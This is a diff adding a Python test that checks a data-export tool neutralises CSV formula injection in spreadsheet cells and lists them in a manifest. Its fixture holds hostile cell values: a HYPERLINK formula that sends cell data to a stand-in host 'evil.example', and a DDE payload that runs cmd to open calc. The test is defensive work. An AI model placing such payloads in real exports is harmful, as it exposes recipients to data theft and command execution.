@@ -128,3 +128,28 @@ def test_portability_and_appendix_hold_only_the_subjects_rows(tmp_path: Path) ->
     assert back == snap
     included = snapshot_from_result(result, include_candidates=True)
     assert included.row_count == 4
+
+
+def test_csv_cells_that_spreadsheets_run_are_neutralised(tmp_path: Path) -> None:
+    """Issue 11 point 6 (OWASP CSV injection): CSV neutralised and listed; JSON exact."""
+    hostile = {"id": 1, "name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "cmd": "=cmd|' /C calc'!A0",
+               "plus": "+1", "at": "@SUM(1)", "tab": "\t=1", "ok": "Zoë", "n": -5}
+    result = SearchResult(SearchQuery(emails=("a@example.com",)),
+                          (Match("crm", "customers", {"id": 1}, hostile, ()),), (), (), 0.1, connections=("crm",))
+    snap = snapshot_from_result(result, sources={"crm": "sqlite"})
+    out = tmp_path / "export.zip"
+    snapshot_to_csv_zip(snap, "DSR-1", out)
+    with zipfile.ZipFile(out) as z:
+        manifest = json.loads(z.read("manifest.json"))
+        rows = list(csv.DictReader(io.StringIO(z.read("crm/customers.csv").decode("utf-8-sig"))))
+    row = rows[0]
+    for col in ("name", "cmd", "plus", "at", "tab"):
+        assert row[col] == "'" + hostile[col], col  # type: ignore[operator]
+    assert row["ok"] == "Zoë" and row["n"] == "-5"  # text left alone, numbers stay numbers
+    cells = manifest["neutralised"]["cells"]
+    assert {(c["file"], c["row"], c["column"]) for c in cells} == {
+        ("crm/customers.csv", 1, col) for col in ("name", "cmd", "plus", "at", "tab")}
+    assert "apostrophe" in manifest["neutralised"]["rule"]
+    js = tmp_path / "export.json"
+    snapshot_to_json_file(snap, "DSR-1", js)
+    assert json.loads(js.read_bytes())["data"]["crm"]["customers"][0] == hostile
